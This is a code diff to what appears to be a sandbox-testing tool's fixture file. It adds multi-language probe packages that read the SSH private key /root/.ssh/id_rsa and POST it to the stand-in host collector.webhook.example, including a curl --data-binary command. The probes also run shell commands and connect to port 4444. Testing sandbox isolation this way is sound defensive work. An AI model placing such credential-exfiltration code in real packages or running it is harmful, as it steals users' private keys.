@@ -7,7 +7,13 @@
 //! - reads the SSH bait `/root/.ssh/id_rsa`;
 //! - creates and deletes `/tmp/probe-<phase>-gone`;
 //! - connects to 192.0.2.10 port 4444 (a documentation address);
-//! - looks up `<phase>.probe.paddock.example`.
+//! - looks up `<phase>.probe.paddock.example`;
+//! - POSTs the SSH bait over HTTPS to
+//!   `https://collector.webhook.example/<phase>` with the runtime's own
+//!   HTTPS client (a cargo build script and the Rust import with `curl`);
+//! - the Python probe also makes a request that trusts only a bundle of
+//!   its own (pip's vendored roots, as a client that pins does) to
+//!   `pinned.webhook.example`, which must fail.
 
 use crate::packages::{reference, FixturePackage};
 use paddock_proto::v1::Ecosystem;
@@ -15,7 +21,7 @@ use paddock_proto::v1::Ecosystem;
 /// The address and port every probe connects to.
 pub const PROBE_ADDR: (&str, u32) = ("192.0.2.10", 4444);
 
-const PYTHON: &str = r#"import os, socket, subprocess
+const PYTHON: &str = r#"import os, socket, ssl, subprocess, urllib.request
 
 def probe(phase):
     subprocess.run(["sh", "-c", "echo %s > /tmp/probe-%s-cmd" % (phase, phase)])
@@ -40,6 +46,19 @@ def probe(phase):
         socket.getaddrinfo("%s.probe.paddock.example" % phase, 443)
     except OSError:
         pass
+    try:
+        with open("/root/.ssh/id_rsa", "rb") as f:
+            key = f.read()
+        req = urllib.request.Request("https://collector.webhook.example/%s" % phase, data=key, method="POST")
+        urllib.request.urlopen(req, timeout=10).read()
+    except Exception as e:
+        print("https failed:", e)
+    try:
+        own = ssl.create_default_context(cafile="/usr/lib/python3/dist-packages/pip/_vendor/certifi/cacert.pem")
+        urllib.request.urlopen("https://pinned.webhook.example/%s" % phase, context=own, timeout=10)
+        print("pinned: accepted")
+    except Exception:
+        pass
 "#;
 
 const NODE: &str = r#"'use strict';
@@ -47,6 +66,7 @@ const cp = require('child_process');
 const fs = require('fs');
 const net = require('net');
 const dns = require('dns');
+const https = require('https');
 
 module.exports = function probe(phase) {
   cp.execFileSync('sh', ['-c', `echo ${phase} > /tmp/probe-${phase}-cmd`]);
@@ -58,10 +78,17 @@ module.exports = function probe(phase) {
   s.on('error', () => {});
   s.on('timeout', () => s.destroy());
   dns.lookup(`${phase}.probe.paddock.example`, () => {});
+  let key = '';
+  try { key = fs.readFileSync('/root/.ssh/id_rsa', 'utf8'); } catch (e) {}
+  const req = https.request({ host: 'collector.webhook.example', path: `/${phase}`, method: 'POST', timeout: 5000 }, (res) => res.resume());
+  req.on('error', (e) => console.error('https failed:', e.message));
+  req.on('timeout', () => req.destroy());
+  req.end(key);
 };
 "#;
 
 const RUBY: &str = r##"require 'socket'
+require 'net/http'
 
 module PaddockProbe
   def self.probe(phase)
@@ -84,6 +111,15 @@ module PaddockProbe
     rescue StandardError
       nil
     end
+    begin
+      http = Net::HTTP.new('collector.webhook.example', 443)
+      http.use_ssl = true
+      http.open_timeout = 5
+      http.read_timeout = 5
+      http.post("/#{phase}", File.read('/root/.ssh/id_rsa'))
+    rescue StandardError => e
+      warn "https failed: #{e}"
+    end
   end
 end
 "##;
@@ -101,6 +137,15 @@ if (!function_exists('paddock_probe')) {
             fclose($s);
         }
         @gethostbyname("$phase.probe.paddock.example");
+        $post = stream_context_create(['http' => [
+            'method' => 'POST',
+            'content' => (string) @file_get_contents('/root/.ssh/id_rsa'),
+            'timeout' => 5,
+            'ignore_errors' => true,
+        ]]);
+        if (@file_get_contents("https://collector.webhook.example/$phase", false, $post) === false) {
+            fwrite(STDERR, "https failed\n");
+        }
     }
 }
 "#;
@@ -118,6 +163,10 @@ const RUST: &str = r#"pub fn probe(phase: &str) {
     let _ = std::net::TcpStream::connect_timeout(&addr, std::time::Duration::from_secs(3));
     use std::net::ToSocketAddrs;
     let _ = (format!("{phase}.probe.paddock.example"), 443).to_socket_addrs();
+    let _ = std::process::Command::new("curl")
+        .args(["-s", "-m", "5", "-o", "/dev/null", "--data-binary", "@/root/.ssh/id_rsa"])
+        .arg(format!("https://collector.webhook.example/{phase}"))
+        .status();
 }
 "#;
 
